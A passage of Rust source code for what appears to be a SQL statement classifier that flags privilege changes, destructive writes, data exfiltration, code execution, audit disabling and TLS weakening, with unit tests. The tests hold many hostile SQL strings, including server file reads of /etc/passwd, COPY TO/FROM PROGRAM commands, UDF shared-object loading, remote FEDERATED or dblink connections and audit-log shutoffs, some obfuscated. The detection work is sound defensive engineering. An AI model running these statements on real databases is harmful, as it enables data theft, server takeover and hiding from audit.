            "GLOBAL",
            "LOCAL",
            "SQL",
        ]
        .iter()
        .any(|k| t.is(k))
            || (t.is("SECURITY") && {
                toks.next();
                true
            })
        {
        } else {
            return Some(t);
        }
    }
}

/// The word after `IF [NOT] EXISTS`.
fn name_word<'a>(toks: &mut Tokens<'a>) -> Option<Token<'a>> {
    let t = toks.next()?;
    if t.is("IF") {
        let n = toks.next()?;
        if n.is("NOT") {
            toks.next();
        }
        return toks.next();
    }
    Some(t)
}

fn create(mut toks: Tokens<'_>) -> StatementClass {
    let Some(object) = object_word(&mut toks) else {
        return C::Ddl;
    };
    if object.is("USER") {
        let mut peek = toks.clone();
        return if peek.next().is_some_and(|t| t.is("MAPPING")) {
            C::Exfiltration
        } else {
            C::Privilege
        };
    }
    if object.is("ROLE") || object.is("GROUP") {
        return C::Privilege;
    }
    if object.is("FUNCTION") || object.is("PROCEDURE") {
        let mut t = toks.clone();
        while let Some(w) = t.next() {
            if w.is("SONAME") {
                return C::CodeExecution;
            }
            if w.is("LANGUAGE") && t.next().is_some_and(|l| is_untrusted_language(&l)) {
                return C::CodeExecution;
            }
        }
        return scan_calls(toks.rest()).unwrap_or(C::Ddl);
    }
    if object.is("LANGUAGE") {
        return match toks.next() {
            Some(l) if is_untrusted_language(&l) => C::CodeExecution,
            _ => C::Ddl,
        };
    }
    if object.is("EXTENSION") {
        return name_word(&mut toks)
            .and_then(|n| extension_class(&n))
            .unwrap_or(C::Ddl);
    }
    if object.is("SERVER") || object.is("FOREIGN") {
        return C::Exfiltration;
    }
    if object.is("TABLE") && remote_engine(toks.clone()) {
        return C::Exfiltration;
    }
    scan_calls(toks.rest()).unwrap_or(C::Ddl)
}

fn alter(mut toks: Tokens<'_>) -> StatementClass {
    let Some(object) = toks.next() else {
        return C::Ddl;
    };
    if object.is("SYSTEM") {
        return assignments(toks).unwrap_or(C::Other);
    }
    if object.is("USER") || object.is("ROLE") || object.is("GROUP") {
        let mut t = toks.clone();
        while let Some(w) = t.next() {
            if w.is("REQUIRE") && t.clone().next().is_some_and(|n| n.is("NONE")) {
                return C::Tls;
            }
            if w.is("SET") {
                if let Some(c) = assignments(t.clone()) {
                    return c;
                }
            }
        }
        return C::Privilege;
    }
    if object.is("DATABASE") {
        return assignments(toks).unwrap_or(C::Ddl);
    }
    if object.is("TABLE") {
        if remote_engine(toks.clone()) {
            return C::Exfiltration;
        }
        if toks.any(|t| t.is("DROP")) {
            return C::Destructive;
        }
    }
    C::Ddl
}

fn drop(mut toks: Tokens<'_>) -> StatementClass {
    let Some(object) = object_word(&mut toks) else {
        return C::Ddl;
    };
    if object.is("DATABASE") || object.is("SCHEMA") || object.is("TABLE") || object.is("TEMPORARY")
    {
        C::Destructive
    } else if object.is("USER") || object.is("ROLE") || object.is("GROUP") {
        C::Privilege
    } else if object.is("EXTENSION") && name_word(&mut toks).is_some_and(|n| n.is("PGAUDIT")) {
        C::Audit
    } else {
        C::Ddl
    }
}

/// `LOAD DATA|XML [LOW_PRIORITY|CONCURRENT] [LOCAL] INFILE`: a server file read unless
/// `LOCAL` (the client's file). PostgreSQL `LOAD 'library'` loads a shared object.
fn load(mut toks: Tokens<'_>) -> StatementClass {
    match toks.next() {
        Some(t) if t.kind == Kind::Str => return C::CodeExecution,
        Some(t) if t.is("DATA") || t.is("XML") => {}
        _ => return C::Write,
    }
    for t in toks.take(4) {
        if t.is("LOCAL") {
            return C::Write;
        }
        if t.is("INFILE") {
            return C::Exfiltration;
        }
    }
    C::Write
}

/// `COPY … FROM PROGRAM` runs a shell command; `COPY … TO PROGRAM` and `COPY … FROM|TO
/// 'file'` move data to or from a server file; `STDIN`/`STDOUT` are a client's copy.
fn copy(toks: Tokens<'_>) -> StatementClass {
    let mut depth = 0i32;
    let mut toks = toks;
    while let Some(t) = toks.next() {
        if t.is_punct(b'(') {
            depth += 1;
        } else if t.is_punct(b')') {
            depth -= 1;
        } else if depth == 0 && (t.is("FROM") || t.is("TO")) {
            return match toks.next() {
                Some(p) if p.is("PROGRAM") => {
                    if t.is("FROM") {
                        C::CodeExecution
                    } else {
                        C::Exfiltration
                    }
                }
                Some(s) if s.is("STDIN") || s.is("STDOUT") => C::Write,
                Some(_) => C::Exfiltration,
                None => C::Write,
            };
        }
    }
    C::Write
}

/// `INSTALL PLUGIN x SONAME 'y'` / `INSTALL SONAME 'y'` load a shared object (code
/// execution, unless it is the audit plugin itself); uninstalling the audit plugin turns
/// auditing off.
fn install(mut toks: Tokens<'_>, uninstall: bool) -> StatementClass {
    let what = toks.next();
    let name = toks.next();
    let audit = name
        .is_some_and(|n| n.text.len() >= 12 && n.text[..12].eq_ignore_ascii_case(b"server_audit"));
    let known = what.is_some_and(|w| w.is("PLUGIN") || w.is("SONAME"));
    match (known, uninstall, audit) {
        (true, true, true) => C::Audit,
        (true, false, false) => C::CodeExecution,
        _ => C::Other,
    }
}

#[cfg(test)]
mod tests {
    use super::StatementClass::*;
    use super::*;

    fn c(s: &str) -> StatementClass {
        classify(s.as_bytes())
    }

    #[test]
    fn privilege_statements_are_recognised() {
        assert_eq!(c("GRANT ALL ON sa_db TO u2 IDENTIFIED BY *****"), Privilege);
        assert_eq!(c("revoke select on t from u"), Privilege);
        assert_eq!(
            c(r"CREATE USER \'u1_empty\'@\'%\' IDENTIFIED BY <secret>"),
            Privilege
        );
        assert_eq!(c("ALTER USER 'a'@'%' IDENTIFIED BY 'x'"), Privilege);
        assert_eq!(c("DROP USER bob"), Privilege);
        assert_eq!(c("RENAME USER a TO b"), Privilege);
        assert_eq!(c("SET PASSWORD FOR u1=<secret>"), Privilege);
        assert_eq!(c("create role analyst"), Privilege);
        assert_eq!(c("CREATE OR REPLACE USER x"), Privilege);
        assert_eq!(c("SET DEFAULT ROLE ALL TO u"), Privilege);
    }

    #[test]
    fn destructive_statements_are_recognised() {
        assert_eq!(c("DROP TABLE orders.customers_backup"), Destructive);
        assert_eq!(c("drop database shop"), Destructive);
        assert_eq!(c("TRUNCATE TABLE warehouse.staging"), Destructive);
        assert_eq!(c("DELETE FROM billing.invoices"), Destructive);
        assert_eq!(c("UPDATE users SET admin=1"), Destructive);
        assert_eq!(c("ALTER TABLE t DROP COLUMN c"), Destructive);
    }

    #[test]
    fn where_clause_makes_delete_and_update_plain_writes() {
        assert_eq!(c("DELETE FROM t WHERE id = 1"), Write);
        assert_eq!(c(r"UPDATE t SET a=1\nWHERE id=2"), Write);
        assert_eq!(c("UPDATE t SET nowhere=1"), Destructive);
    }

    #[test]
    fn exfiltration_is_found_anywhere_in_the_statement() {
        assert_eq!(
            c("SELECT * FROM orders.customers INTO OUTFILE '/tmp/c.csv'"),
            Exfiltration
        );
        assert_eq!(c("select a into   dumpfile '/tmp/x'"), Exfiltration);
        assert_eq!(c("SELECT LOAD_FILE('/etc/passwd')"), Exfiltration);
        assert_eq!(c("COPY t TO PROGRAM 'curl x'"), Exfiltration);
        assert_eq!(c("COPY t TO '/tmp/t.csv'"), Exfiltration);
        assert_eq!(c("COPY t TO STDOUT"), Write);
        assert_eq!(c("select pg_read_file('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT outfile, profile FROM t"), Read);
        assert_eq!(c("SELECT lo_export(123, '/tmp/x')"), Exfiltration);
        assert_eq!(c("SELECT lo_export_count FROM t"), Read);
    }

    #[test]
    fn leading_comments_and_executable_comments_are_skipped() {
        assert_eq!(c("/* app=orders */ SELECT 1"), Read);
        // An executable comment is code, not a comment.
        assert_eq!(c("/*!40101 DROP TABLE x */"), Destructive);
        assert_eq!(c("/*!40101 SET NAMES utf8 */;"), Other);
        assert_eq!(c("/* SET NAMES utf8 */ DROP TABLE x"), Destructive);
        assert_eq!(c(r"-- hi\nGRANT ALL ON *.* TO x"), Privilege);
        assert_eq!(c("# note\nTRUNCATE t"), Destructive);
        assert_eq!(c("  \n select 1"), Read);
    }

    #[test]
    fn everything_else_has_a_class() {
        assert_eq!(c("CREATE TABLE t (a int)"), Ddl);
        assert_eq!(c("DROP VIEW v"), Ddl);
        assert_eq!(c("INSERT INTO t VALUES (1)"), Write);
        assert_eq!(c("SET autocommit=1"), Other);
        assert_eq!(c("BEGIN"), Other);
        assert_eq!(c(""), Other);
        assert_eq!(c("SELEC"), Other);
        assert_eq!(c("DR"), Other);
    }

    #[test]
    fn paren_and_f_positions_are_all_found_in_order() {
        for len in 0..70 {
            let body: Vec<u8> = (0..len)
                .map(|i| match i % 7 {
                    0 => b'F',
                    3 => b'(',
                    5 => 0xC3, // a non-ASCII byte
                    6 => 0x08, // | 0x20 is `(`: must not count
                    _ => b'a' + (i % 5) as u8,
                })
                .collect();
            let want: Vec<usize> = (0..len)
                .filter(|&i| matches!(body[i], b'F' | b'f' | b'('))
                .collect();
            let mut got = Vec::new();
            for_each_paren_or_f(&body, |i| {
                got.push(i);
                false
            });
            assert_eq!(got, want, "len {len}");
            let mut calls = 0;
            for_each_paren_or_f(&body, |_| {
                calls += 1;
                true
            });
            assert_eq!(calls, want.len().min(1));
        }
        assert_eq!(c("SELECT LO_EXPORT (16409, '/tmp/x')"), Exfiltration);
        assert_eq!(c("select * from t into   dumpfile '/tmp/x'"), Exfiltration);
        assert_eq!(c("SELECT lo_exports FROM t"), Read);
    }

    #[test]
    fn name_runs_are_found_16_bytes_at_a_time() {
        // Every byte value, at every position of the 16 bytes before `end`.
        for b in 0..=255u8 {
            for pos in 0..20 {
                let mut s = b"SELECT x, abc_def_ghijklmnop_qrstu".to_vec();
                let at = s.len() - 1 - pos.min(s.len() - 1);
                s[at] = b;
                for end in 0..=s.len() {
                    let want = s[..end]
                        .iter()
                        .rposition(|&c| !is_ident(c))
                        .map_or(0, |p| p + 1);
                    assert_eq!(run_start(&s, end), want, "byte {b:#x} at {at}, end {end}");
                }
            }
        }
    }

    #[test]
    fn a_name_behind_spaces_or_anything_else_before_a_paren_is_seen() {
        // The fast path (a bare name behind spaces) and the ways around it.
        assert_eq!(c("SELECT LOAD_FILE   ('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT x, Load_File('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT load_file/* c */ ('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT load_file /* c */('/etc/passwd')"), Exfiltration);
        assert_eq!(c(r"SELECT load_file\n('/etc/passwd')"), Exfiltration);
        assert_eq!(c(r"SELECT load_file \n ('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT load_file\t('/etc/passwd')"), Exfiltration);
        assert_eq!(c(r"SELECT a,\nload_file('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT `LOAD_FILE` ('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT load_file\n ('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT load_file -- c\n ('/etc/passwd')"), Exfiltration);
        assert_eq!(
            c("SELECT aaaaaaaaaaaaaaaaaaaaaaaa, pg_read_binary_file('/etc/passwd')"),
            Exfiltration
        );
        assert_eq!(c("SELECT x,dblink_exec('c', 'DROP TABLE t')"), Exfiltration);
        // Names that are none of the functions, long and short.
        assert_eq!(c("SELECT COUNT(*), SUM(a) FROM t WHERE a IN (1, 2)"), Read);
        assert_eq!(c("SELECT LAST_INSERT_ID()"), Read);
        assert_eq!(
            c("INSERT INTO a_very_long_table_name_of_more_than_twenty (a) VALUES (1)"),
            Write
        );
        assert_eq!(c("SELECT xload_file('/etc/passwd')"), Read);
    }

    #[test]
    fn every_function_passes_the_quick_rejection() {
        for name in [
            "load_file",
            "pg_read_file",
            "pg_read_binary_file",
            "lo_import",
            "lo_export",
            "pg_file_write",
            "lo_from_bytea",
            "sys_exec",
            "sys_eval",
            "lib_mysqludf_sys_info",
            "set_config",
            "dblink",
            "dblink_connect_u",
            "dblink_build_sql_insert",
        ] {
            for n in [name.to_string(), name.to_uppercase()] {
                assert!(call_class(n.as_bytes()).is_some(), "{n}");
            }
        }
        assert_eq!(c("SELECT PG_READ_FILE('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT Sys_Eval('id')"), CodeExecution);
        assert_eq!(c("SELECT LIB_MYSQLUDF_SYS_INFO()"), CodeExecution);
        assert_eq!(c("SELECT DbLink('x', 'y')"), Exfiltration);
    }

    #[test]
    fn every_spelling_of_or_reaches_the_full_check() {
        assert_eq!(c("DELETE FROM t WHERE id = 5 or 1=1"), Destructive);
        assert_eq!(c(r"DELETE FROM t WHERE id = 5\nOR 1=1"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE id = 5 XOR 1=1"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE id = 5/**/Or/**/1=1"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE id = 5 || 1=1"), Destructive);
        assert_eq!(c("UPDATE t SET a = 1 WHERE id = 5 ORDER BY id"), Write);
        assert_eq!(
            c("UPDATE t SET a = 1 WHERE order_id = 5 OR color = 2"),
            Write
        );
    }

    #[test]
    fn a_line_comment_before_an_escaped_newline_is_seen() {
        assert_eq!(c(r"SELECT load_file -- a\n ('/etc/passwd')"), Exfiltration);
        assert_eq!(
            c(r"SELECT 1,\n load_file # a\n('/etc/passwd')"),
            Exfiltration
        );
        assert_eq!(
            c(r"SELECT a -- b\n, load_file\n('/etc/passwd')"),
            Exfiltration
        );
        assert_eq!(c(r"INSERT INTO t (a) VALUES (1),\n (2) -- x"), Write);
    }

    #[test]
    fn the_file_of_outfile_is_found_in_any_case() {
        assert_eq!(c("SELECT 1 INTO OutFile '/tmp/x'"), Exfiltration);
        assert_eq!(c("SELECT 1 into dumpFILE '/tmp/x'"), Exfiltration);
        assert_eq!(c("SELECT 1 INTO OUTFILES"), Read);
        assert_eq!(c("SELECT fil, file, FILE FROM t"), Read);
    }

    #[test]
    fn obfuscated_statements_are_seen_through() {
        assert_eq!(
            c("SELECT/**/*/**/FROM/**/customers/**/INTO/**/OUTFILE '/tmp/a.csv'"),
            Exfiltration
        );
        assert_eq!(
            c("SELECT * FROM customers INTO\nOUTFILE '/tmp/a.csv'"),
            Exfiltration
        );
        assert_eq!(
            c(r"SELECT * FROM customers INTO\nOUTFILE \'/tmp/a.csv\'"),
            Exfiltration
        );
        assert_eq!(
            c("SELECT * FROM t INTO -- x\n OUTFILE '/tmp/a'"),
            Exfiltration
        );
        assert_eq!(
            c("/*!SELECT*/ * FROM t /*!INTO*/ OUTFILE '/tmp/a'"),
            Exfiltration
        );
        assert_eq!(
            c("SELECT LOAD_FILE/**/(0x2f6574632f706173737764)"),
            Exfiltration
        );
        assert_eq!(c("SELECT `load_file`(CHAR(47,101,116,99))"), Exfiltration);
        assert_eq!(
            c(r#"SELECT \"pg_read_file\"(\'/etc/passwd\')"#),
            Exfiltration
        );
        // A function name split from its `(` by a line comment or by lines.
        assert_eq!(c("SELECT load_file -- x\n('/etc/passwd')"), Exfiltration);
        assert_eq!(c(r"SELECT load_file # x\n('/etc/passwd')"), Exfiltration);
        assert_eq!(c(r"SELECT load_file\n  \n('/etc/passwd')"), Exfiltration);
        assert_eq!(
            c("SELECT 1;\nSELECT load_file\n('/etc/passwd')"),
            Exfiltration
        );
        assert_eq!(c(r"SELECT 1,\nload_file(\'/etc/passwd\')"), Exfiltration);
        assert_eq!(c(r"SELECT 1,\tsys_exec(\'id\')"), CodeExecution);
        assert_eq!(c(r"SELECT * FROM t\nINTO OUTFILE \'/tmp/x\'"), Exfiltration);
        assert_eq!(
            c(r"SELECT * FROM t\nINTO\nDUMPFILE \'/tmp/x\'"),
            Exfiltration
        );
        // Quoted tables before column lists and rows on new lines are ordinary.
        assert_eq!(
            c(r"INSERT INTO `t` (a, b)\nVALUES (1, 2),\n       (3, 4)"),
            Write
        );
        assert_eq!(c("INSERT INTO \"t\" (a) VALUES (1)"), Write);
        // A literal is not code.
        assert_eq!(c("SELECT 'load_file(1)', 'into outfile x' FROM t"), Read);
        assert_eq!(
            c("INSERT INTO notes (body) VALUES ('use INTO OUTFILE here')"),
            Write
        );
    }

    #[test]
    fn server_file_reads_and_remote_servers_are_exfiltration() {
        assert_eq!(
            c("LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
            Exfiltration
        );
        assert_eq!(
            c("load data low_priority infile '/etc/passwd' into table t"),
            Exfiltration
        );
        assert_eq!(c("LOAD XML INFILE '/tmp/x.xml' INTO TABLE t"), Exfiltration);
        assert_eq!(c("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t"), Write);
        assert_eq!(c("SELECT pg_read_binary_file('/etc/passwd')"), Exfiltration);
        assert_eq!(c("SELECT lo_import('/etc/passwd')"), Exfiltration);
        assert_eq!(c("COPY t FROM '/etc/passwd'"), Exfiltration);
        assert_eq!(c("COPY t FROM STDIN"), Write);
        assert_eq!(
            c("COPY (SELECT * FROM t WHERE a IN (SELECT b FROM u)) TO '/tmp/x'"),
            Exfiltration
        );
        assert_eq!(
            c("SELECT * FROM dblink('host=203.0.113.9 user=x', 'SELECT 1') AS t(a int)"),
            Exfiltration
        );
        assert_eq!(
            c("SELECT dblink_exec('conn', 'INSERT INTO t SELECT 1')"),
            Exfiltration
        );
        assert_eq!(c("CREATE EXTENSION postgres_fdw"), Exfiltration);
        assert_eq!(
            c("CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9')"),
            Exfiltration
        );
        assert_eq!(c("CREATE USER MAPPING FOR app SERVER exfil"), Exfiltration);
        assert_eq!(
            c("CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://u@203.0.113.9/db/t'"),
            Exfiltration
        );
        assert_eq!(
            c("create table t (a int) engine = CONNECT table_type=MYSQL"),
            Exfiltration
        );
        assert_eq!(c("CREATE TABLE t (a int) ENGINE=InnoDB"), Ddl);
    }

    #[test]
    fn tautological_filters_are_destructive() {
        assert_eq!(c("DELETE FROM customers WHERE 1=1"), Destructive);
        assert_eq!(c("UPDATE customers SET email='x' WHERE 1"), Destructive);
        assert_eq!(c(r"UPDATE customers SET email=\'x\' WHERE 1"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE true"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE 'a'='a'"), Destructive);
        assert_eq!(c(r"DELETE FROM t WHERE \'a\'=\'a\'"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE id = 5 OR 1=1"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE id = 5 OR (1 = 1) -- x"), Destructive);
        assert_eq!(c("DELETE FROM t WHERE (2 > 1) LIMIT 10"), Destructive);
        assert_eq!(c("DELETE FROM t /* WHERE id = 1 */"), Destructive);
        assert_eq!(c("UPDATE t SET note = 'where' "), Destructive);
        assert_eq!(
            c(r"UPDATE t SET note = \'a where b\' /* WHERE id = 1 */"),
            Destructive
        );
        assert_eq!(
            c("UPDATE t SET note = 'x WHERE y', b = \"WHERE\" WHERE id = 1"),
            Write
        );
        assert_eq!(
            c("UPDATE t SET note = $$ WHERE $$ WHERE 1 = 1"),
            Destructive
        );
        assert_eq!(c("UPDATE t SET a = 2 - 1, b = 4 / 2 WHERE id = 1"), Write);
        // Ordinary filters, also with a query builder's `1=1 AND`.
        assert_eq!(c("DELETE FROM t WHERE id = 1"), Write);
        assert_eq!(c("DELETE FROM t WHERE 1=1 AND id = 1"), Write);
        assert_eq!(c("UPDATE t SET a = 1 WHERE 1 = 0"), Write);
        assert_eq!(
            c("UPDATE t SET a = 'x' /* c */ WHERE\n id = 1 OR id = 2"),
            Write
        );
        assert_eq!(c("DELETE FROM t WHERE 'a' = 'b'"), Write);
    }

    #[test]
    fn drop_schema_is_destructive() {
        assert_eq!(c("DROP SCHEMA shop CASCADE"), Destructive);
        assert_eq!(c("DROP SCHEMA IF EXISTS shop"), Destructive);
    }

    #[test]
    fn switching_the_audit_off_is_audit() {
        assert_eq!(c("SET GLOBAL server_audit_logging=OFF"), Audit);
        assert_eq!(c("SET @@global.server_audit_logging = 0"), Audit);
        assert_eq!(c("set global `server_audit_logging` = off"), Audit);
        assert_eq!(c("SET GLOBAL server_audit_logging=ON"), Other);
        assert_eq!(c("UNINSTALL PLUGIN server_audit"), Audit);
        assert_eq!(c("UNINSTALL SONAME 'server_audit'"), Audit);
        assert_eq!(c("SET GLOBAL server_audit_excl_users='app'"), Audit);
        assert_eq!(c(r"SET GLOBAL server_audit_incl_users=\'nobody\'"), Audit);
        assert_eq!(c("SET GLOBAL server_audit_events='CONNECT'"), Audit);
        assert_eq!(
            c("SET GLOBAL server_audit_events='CONNECT,QUERY,TABLE'"),
            Other
        );
        assert_eq!(c("SET pgaudit.log = 'none'"), Audit);
        assert_eq!(c("SET SESSION pgaudit.log TO 'none'"), Audit);
        assert_eq!(c("ALTER SYSTEM SET pgaudit.log = 'none'"), Audit);
        assert_eq!(c("ALTER SYSTEM SET pgaudit.log TO 'all'"), Other);
        assert_eq!(c("ALTER SYSTEM SET log_connections = off"), Audit);
        assert_eq!(c("ALTER SYSTEM SET log_disconnections TO 'off'"), Audit);
        assert_eq!(c("ALTER SYSTEM SET log_statement = 'none'"), Audit);
        assert_eq!(c("SET log_statement = 'none'"), Audit);
        assert_eq!(c("ALTER DATABASE shop SET pgaudit.log = 'none'"), Audit);
        assert_eq!(c("ALTER ROLE app SET pgaudit.log TO 'none'"), Audit);
        assert_eq!(c("DROP EXTENSION pgaudit"), Audit);
        assert_eq!(c("DROP EXTENSION IF EXISTS pgaudit CASCADE"), Audit);
        assert_eq!(c("SELECT set_config('pgaudit.log', 'none', false)"), Audit);
        assert_eq!(c("SELECT set_config('search_path', 'x', false)"), Read);
        assert_eq!(c("SET application_name = 'psql'"), Other);
    }

    #[test]
    fn weakening_tls_is_tls() {
        assert_eq!(c("SET GLOBAL require_secure_transport=OFF"), Tls);
        assert_eq!(c("SET PERSIST require_secure_transport = 0"), Tls);
        assert_eq!(c("SET GLOBAL require_secure_transport=ON"), Other);
        assert_eq!(c("ALTER SYSTEM SET ssl = off"), Tls);
        assert_eq!(
            c("ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1'"),
            Tls
        );
        assert_eq!(
            c("ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1.2'"),
            Other
        );
        assert_eq!(c("ALTER USER 'app'@'%' REQUIRE NONE"), Tls);
        assert_eq!(c("ALTER USER 'app'@'%' REQUIRE SSL"), Privilege);
    }

    #[test]
    fn code_execution_is_recognised() {
        assert_eq!(
            c("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'"),
            CodeExecution
        );
        assert_eq!(
            c("create aggregate function f returns string soname 'x.so'"),
            CodeExecution
        );
        assert_eq!(c("COPY t FROM PROGRAM 'id'"), CodeExecution);
        assert_eq!(c("COPY t TO PROGRAM 'curl x'"), Exfiltration);
        assert_eq!(c("CREATE LANGUAGE plpython3u"), CodeExecution);
        assert_eq!(
            c("CREATE TRUSTED PROCEDURAL LANGUAGE plperlu"),
            CodeExecution
        );
        assert_eq!(c("CREATE LANGUAGE plpgsql"), Ddl);
        assert_eq!(
            c("CREATE OR REPLACE FUNCTION x() RETURNS text AS $$ import os; return os.popen('id').read() $$ LANGUAGE plpython3u"),
            CodeExecution
        );
        assert_eq!(c("CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/x.so', 'sys' LANGUAGE 'c' STRICT"), CodeExecution);
        assert_eq!(
            c("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql"),
            Ddl
        );
        assert_eq!(c("CREATE EXTENSION adminpack"), CodeExecution);
        assert_eq!(c("CREATE EXTENSION IF NOT EXISTS dblink"), CodeExecution);
        assert_eq!(c("CREATE EXTENSION plpython3u"), CodeExecution);
        assert_eq!(c("CREATE EXTENSION pg_stat_statements"), Ddl);
        assert_eq!(
            c("SELECT unhex('7f45') INTO DUMPFILE '/usr/lib64/mysql/plugin/udf.so'"),
            CodeExecution
        );
        assert_eq!(c("SELECT sys_exec('id')"), CodeExecution);
        assert_eq!(c("INSTALL PLUGIN x SONAME 'x.so'"), CodeExecution);
        assert_eq!(
            c("INSTALL PLUGIN server_audit SONAME 'server_audit.so'"),
            Other
        );
        assert_eq!(c("LOAD '/tmp/evil.so'"), CodeExecution);
    }

    #[test]
    fn ordinary_application_traffic_stays_ordinary() {
        assert_eq!(
            c("/* app=orders */ SELECT id FROM orders WHERE id = 1"),
            Read
        );
        assert_eq!(
            c("SELECT o.id,\n  o.total -- total\nFROM orders o\nWHERE o.id = 1"),
            Read
        );
        assert_eq!(
            c(r"SELECT o.id,\n  o.total\nFROM orders o\nWHERE o.id = 1"),
            Read
        );
        assert_eq!(
            c("UPDATE orders /* status */ SET status = 'paid'\nWHERE id = 1"),
            Write
        );
        assert_eq!(
            c(r"UPDATE orders SET status = \'paid\'\nWHERE id = 1"),
            Write
        );
        assert_eq!(c("DELETE FROM cart_items -- stale\nWHERE id = 1"), Write);
        assert_eq!(c("SELECT COUNT(*), MAX(created_at) FROM orders"), Read);
        assert_eq!(c("INSERT INTO t (a) VALUES (NOW())"), Write);
        assert_eq!(c("SELECT profile FROM t WHERE f(1) = 2"), Read);
    }
}
